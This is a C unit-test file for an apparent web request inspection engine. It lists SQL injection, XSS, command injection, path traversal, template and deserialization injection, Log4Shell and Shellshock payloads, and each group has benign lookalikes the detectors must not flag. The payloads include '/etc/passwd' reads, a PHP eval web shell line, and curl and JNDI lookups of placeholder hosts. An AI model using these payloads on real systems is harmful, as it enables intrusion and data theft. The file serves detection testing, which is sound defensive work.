@@ -1,0 +1,322 @@
+/* The must-catch and must-not-flag lists of the detection guide, section 3, and more of ours: each
+ * value through lanes and detectors, at the default threshold. */
+#include <cmocka.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include "base/arena.h"
+#include "base/buf.h"
+#include "engine/value.h"
+
+enum { THRESHOLD = 30 };
+
+static int score(struct mln_sv value, enum mln_location loc, struct mln_sv name, int protection)
+{
+    struct mln_arena a;
+    struct mln_findings f;
+    struct mln_views views;
+    struct mln_budget budget = {.steps_left = 1 << 24};
+    int best = 0;
+
+    mln_arena_init(&a, 16 << 20);
+    mln_findings_clear(&f);
+    mln_value_inspect(&a, value, loc, name, &budget, &views, &f);
+    for (unsigned p = 0; p <= MLN_PROT_SHELLSHOCK; p++)
+        if (protection < 0 || p == (unsigned)protection)
+            best = MLN_MAX(best, mln_findings_points(&f, (enum mln_protection)p));
+    mln_arena_done(&a);
+    return best;
+}
+
+#define VALUES(name) static const char *const name[]
+
+VALUES(sqli_attacks) = {
+    "0); show warnings; set @q=0x73656c656374; prepare s from @q; execute s",
+    "1;show warnings",
+    "1 [ union select 1 ]",
+    "1<@. union select 1,2",
+    "or (1) or 1=1#",
+    "'foo'('bar')",
+    "1' or 1.e(1)=1.e(1)-- ",
+    "1 or true",
+    "ORDER BY SLEEP(5)",
+    "1;(select 1 from pg_sleep(5))",
+    "AND (SELECT * FROM (SELECT(SLEEP(5)))x)#",
+    "' || pkg.proc('a') || '",
+    "exec master..xp_cmdshell 'dir'",
+    "1' and data @> '{\"a\":1}' --",
+    "' or json_extract('{\"id\":14}','$.id')=14 -- ",
+    "id,(select case when 1=1 then 1 else 2 end)",
+    "{`f` 1} union select 1",
+    "1' or '1'='1",
+    "admin' --",
+    "1 /*!50000union*/ /*!50000select*/ 1",
+    "1/**/or/**/1=1",
+    "1||utl_http.request('http://x/')",
+    "-1 union all select null,null,version()--",
+    "') or ('a'='a",
+    "1; drop table users--",
+    "1 waitfor delay '0:0:5'",
+    "' having 1=1--",
+    "1 and sleep(5)",
+    "x' and 1=(select count(*) from tabname)-- ",
+    "\" or \"a\"=\"a",
+};
+VALUES(sqli_lookalikes) = {
+    "123--4567",
+    "006--u-m4x",
+    "10 - 20 -- good price",
+    "<a href=\"/privacy-policy/\">privacy</a>",
+    "2104 GRANT AVE #A",
+    "cos(acct)",
+    "5 > 3 and 3 < 5",
+    "if (a<b && c>d) return",
+    "x='1' and y='2'",
+    "O'Brien",
+    "left (1 mile)",
+    "it's 5 o'clock and I'd like 2 or 3",
+    "rock 'n' roll",
+    "Select one or more options from the list",
+    "drop me a line; table for two",
+    "union square",
+    "C++ or C# ?",
+    "SELECT * FROM users",
+    "Rock and roll or jazz",
+    "the update set a record",
+    "text/html;q=0.9,*/*;q=0.8",
+};
+VALUES(xss_attacks) = {
+    "<img src=x onerror=alert(1)>",
+    "<b onbeforedeactivate=alert(1)>",
+    "<x onauxclick=alert(1)>",
+    "<a href=\"jav\tascript:alert(1)\">",
+    "{{constructor.constructor('alert(1)')()}}",
+    "';alert(1)//",
+    "eval('al'+'ert(1)')",
+    "<x onpagereveal=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "</script><script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "javascript:alert(1)",
+    "<iframe srcdoc=\"<script>1</script>\">",
+    "&#60;script&#62;alert(1)",
+    "\\x3cscript\\x3ealert(1)",
+    "+ADw-script+AD4-alert(1)",
+};
+VALUES(xss_lookalikes) = {
+    "onedrive.aspx",
+    "ontwerp=1",
+    "<ontwerp>",
+    "a < b and c > d",
+    "i <3 u",
+    "<p>hello <b>world</b></p><ul><li>x</li></ul>",
+    "<div style=\"color:red\">x</div>",
+    "<!DOCTYPE html>",
+    "x onfocus=1",
+    "List<String> names",
+    "mail <me@example.org>",
+};
+VALUES(cmdi_attacks) = {
+    ";id",
+    "| cat /etc/passwd",
+    "$(whoami)",
+    "`id`",
+    "127.0.0.1&&ping -n 10 127.0.0.1",
+    "\nid",
+    ";c''at /e?"
+    "?/pa?swd",
+    ";{cat,/etc/passwd}",
+    ";cat${IFS}/etc/passwd",
+    ";/??"
+    "?/c?t /etc/passwd",
+    "& p^ing -n 3 10.0.0.1",
+    "|powershell -enc SQBFAFgA",
+    "<(curl http://x/y)",
+};
+VALUES(cmdi_lookalikes) = {
+    "AT&T",
+    "R&D sort of thing",
+    "Tom & find Jerry",
+    "lunch; time to go",
+    "cat food",
+    "a | b",
+    "$(document).ready(function(){})",
+    "Ask who; which one?",
+    "use `ls` to list",
+    "C:\\tools\\more",
+};
+VALUES(traversal_attacks) = {
+    "../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "%c0%ae%c0%ae%c0%afetc/passwd",
+    "..%c1%1c..%c1%1cwindows/win.ini",
+    "..%u2215..%u2215etc/passwd",
+    "%f8%80%80%80%ae%f8%80%80%80%ae/etc",
+    "....//....//etc/passwd",
+    "0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd",
+    "..;/manager/html",
+    "php://filter/convert.base64-encode/resource=index",
+    "a.jsp::$DATA",
+    "../../x%00.png",
+};
+VALUES(traversal_lookalikes) = {
+    "v1..v2",
+    "1..10",
+    "foo...bar",
+    "and... then/or",
+    "a/b/../c",
+    "https://x.org/a/../b",
+    "C:\\Users\\me\\doc.txt",
+    "read etc/passwd docs",
+    "data:image/png;base64,AAAA",
+    "wait.../...what",
+    "s3/usr/local/bin",
+    "../images/a.png",
+};
+VALUES(code_attacks) = {
+    "{{7*7}}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "%{(#a=@java.lang.Runtime@getRuntime())}",
+    "${jndi:ldap://h/a}",
+    "${${lower:j}ndi:${lower:l}dap://h/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}",
+    "$%7Bjndi:dns://h%7D",
+    "' || this.a=='b",
+    "{\"$where\":\"sleep(5000)\"}",
+    "{\"pw\":{\"$gt\":\"\"}}",
+    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+    "<!ENTITY % p SYSTEM \"http://h/d\">",
+    "<xi:include href=\"http://h/x\">",
+    "http://169.254.169.254/latest/meta-data/",
+    "http://2130706433/",
+    "http://[::ffff:127.0.0.1]/",
+    "gopher://127.0.0.1:6379/_",
+    "O:8:\"Evil\":1:{s:1:\"x\";}",
+    "cos\nsystem\n(S'id'\ntR.",
+    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader]",
+    "system('id')",
+    "<?php eval($_POST[1]);",
+    "__import__('os').popen('id')",
+    "{\"__proto__\":{\"isAdmin\":true}}",
+    "*)(uid=*",
+    "' or count(/*)=1 or 'a'='b",
+    "<!--#exec cmd=\"id\" -->",
+    "x\r\nSet-Cookie: a=b",
+};
+VALUES(code_lookalikes) = {
+    "{{ user.name }}",
+    "${HOME}/bin",
+    "#{id}",
+    "{\"a\":{\"b\":1}}",
+    "{{x}}",
+    "${date:yyyy}",
+    "${env:HOME}",
+    "jndi:ldap",
+    "price $gt 5",
+    "$schema",
+    "<!DOCTYPE html>",
+    "https://example.org/callback?x=1",
+    "a:1:{i:0;s:1:\"x\";}",
+    "!!str",
+    "the system (see below)",
+    "exec (ve) summary",
+    "eval",
+    "(see 3)(4)",
+    "<!-- a comment -->",
+};
+VALUES(shellshock_attacks) = {"() { :;}; /bin/id", "() { _; } >_[$($())] { id; }"};
+VALUES(shellshock_lookalikes) = {"function () { }", "x = () => {}"};
+
+static void check_attacks(const char *const *v, size_t n, int protection)
+{
+    for (size_t i = 0; i < n; i++)
+        if (score(mln_sv_str(v[i]), MLN_LOC_QUERY, MLN_SV("q"), protection) < THRESHOLD)
+            fail_msg("not caught: %s", v[i]);
+}
+
+static void check_lookalikes(const char *const *v, size_t n)
+{
+    for (size_t i = 0; i < n; i++)
+        if (score(mln_sv_str(v[i]), MLN_LOC_QUERY, MLN_SV("q"), -1) >= THRESHOLD)
+            fail_msg("a false alarm: %s", v[i]);
+}
+
+#define CASES(name, protection)                                                                    \
+    static void test_##name##_attacks_are_caught(void **state)                                     \
+    {                                                                                              \
+        (void)state;                                                                               \
+        check_attacks(name##_attacks, MLN_ARRAY_LEN(name##_attacks), protection);                  \
+    }                                                                                              \
+    static void test_##name##_lookalikes_pass(void **state)                                        \
+    {                                                                                              \
+        (void)state;                                                                               \
+        check_lookalikes(name##_lookalikes, MLN_ARRAY_LEN(name##_lookalikes));                     \
+    }
+CASES(sqli, -1)
+CASES(xss, -1)
+CASES(cmdi, -1)
+CASES(traversal, -1)
+CASES(code, -1)
+CASES(shellshock, MLN_PROT_SHELLSHOCK)
+
+static void test_names_carry_operators_and_prototypes(void **state)
+{
+    (void)state;
+    assert_true(score(MLN_SV("x"), MLN_LOC_QUERY, MLN_SV("user[$ne]"), MLN_PROT_CODE) >= THRESHOLD);
+    assert_true(score(MLN_SV("1"), MLN_LOC_QUERY, MLN_SV("a[constructor][prototype][x]"),
+                      MLN_PROT_CODE) >= THRESHOLD);
+    assert_true(score(MLN_SV("1"), MLN_LOC_QUERY, MLN_SV("price[min]"), -1) < THRESHOLD);
+}
+
+/* Every detector ends within its budget, whatever it reads, and says so when it does not. */
+static void test_budget_holds_on_repetitive_input(void **state)
+{
+    static const char *const units[] = {
+        "'",   "(",  "<",     "a'", "or 1=", "../",           "${", "{{", ";id", "<a ", "/*",
+        "%25", "x=", "\\x3c", "`",  "&#60",  "union select ", "[",  "1,"};
+
+    (void)state;
+    for (size_t i = 0; i < MLN_ARRAY_LEN(units); i++) {
+        struct mln_buf b = {0};
+        struct mln_arena a;
+        struct mln_findings f;
+        struct mln_views views;
+        struct mln_budget budget = {.steps_left = UINT64_C(64) * 65536 * MLN_VIEWS_MAX * 4};
+        while (b.len < 65536)
+            mln_buf_add_str(&b, units[i]);
+        mln_arena_init(&a, 16 << 20);
+        mln_findings_clear(&f);
+        mln_value_inspect(&a, mln_buf_sv(&b), MLN_LOC_QUERY, MLN_SV("q"), &budget, &views, &f);
+        assert_false(budget.exhausted);
+        mln_arena_done(&a);
+        mln_buf_done(&b);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_sqli_attacks_are_caught),
+        cmocka_unit_test(test_sqli_lookalikes_pass),
+        cmocka_unit_test(test_xss_attacks_are_caught),
+        cmocka_unit_test(test_xss_lookalikes_pass),
+        cmocka_unit_test(test_cmdi_attacks_are_caught),
+        cmocka_unit_test(test_cmdi_lookalikes_pass),
+        cmocka_unit_test(test_traversal_attacks_are_caught),
+        cmocka_unit_test(test_traversal_lookalikes_pass),
+        cmocka_unit_test(test_code_attacks_are_caught),
+        cmocka_unit_test(test_code_lookalikes_pass),
+        cmocka_unit_test(test_shellshock_attacks_are_caught),
+        cmocka_unit_test(test_shellshock_lookalikes_pass),
+        cmocka_unit_test(test_names_carry_operators_and_prototypes),
+        cmocka_unit_test(test_budget_holds_on_repetitive_input),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
